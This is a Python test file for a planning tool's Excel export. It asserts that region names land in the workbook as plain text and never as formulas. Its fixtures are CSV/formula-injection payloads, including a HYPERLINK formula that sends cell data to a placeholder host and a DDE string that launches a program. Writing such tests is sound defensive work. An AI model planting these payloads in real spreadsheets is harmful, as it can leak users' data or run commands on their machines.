"""What a run hands to people: the workbook stores names as text, never as formulas."""

from __future__ import annotations

import types

import openpyxl
import pandas as pd

from planlib.run import excel as export

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")'
NAMES = {"HQ": "总部", "K1": EVIL, "K2": "+cmd|' /C calc'!A0", "K3": "@SUM(1+1)", "K4": "-2+3", "T1": "\t=1+1"}


def _targets() -> pd.DataFrame:
    # HQ and four counties' monthly totals, and one named terminal of K1
    months = pd.date_range("2027-01-01", periods=12, freq="MS")
    rows = [dict(region_id=r, level="hq" if r == "HQ" else "county", month=m, target_volume=10, target_revenue=100.0)
            for r in ("HQ", "K1", "K2", "K3", "K4") for m in months]
    rows += [dict(region_id="K1", level="county", month=m, terminal_id="T1", terminal_class="A", target_volume=1,
                  target_revenue=10.0)
             for m in months]
    frame = pd.DataFrame(rows)
    for col in ("product_line", "sku", "channel", "terminal_class", "terminal_id", "distributor_id"):
        frame[col] = frame.get(col, pd.Series(None, index=frame.index, dtype=object)).astype(object)
    return frame


def _cells(path):
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def test_excel_names_are_text_never_formulas(tmp_path):
    path = export.export_targets_excel(_targets(), tmp_path / "p-targets.xlsx", names=NAMES)
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    shown = {c.value: c for c in cells if isinstance(c.value, str)}
    for name in NAMES.values():  # shown exactly as written, as text
        assert shown[name].data_type == "s"
    assert shown[EVIL].quotePrefix


def test_budget_sheets_keep_names_as_text(tmp_path):
    months = pd.date_range("2027-01-01", periods=2, freq="MS")
    table = pd.DataFrame({"region_id": ["K1", "K1"], "month": months, "category": ["media", "media"],
                          "item": ["tv", "tv"], "terminal_id": [None, None], "amount": [1.0, 2.0]})
    regions = pd.DataFrame({c: [0.0] for c in ("target_volume", "target_revenue", "budget", "cap", "expense_ratio",
                                                "profit_target", "profit_at_target", "bep_units",
                                                "margin_of_safety")})
    regions = regions.assign(region_id=EVIL, level="county", flag="@flag")
    pb = types.SimpleNamespace(table=table, regions=regions)
    path = export.export_targets_excel(_targets(), tmp_path / "p-targets.xlsx", names=NAMES)
    export.export_budget_excel(pb, path, names=NAMES)
    cells = _cells(path)
    assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
    assert sum(c.value == EVIL for c in cells) >= 3  # the level sheet, the budget's two sheets
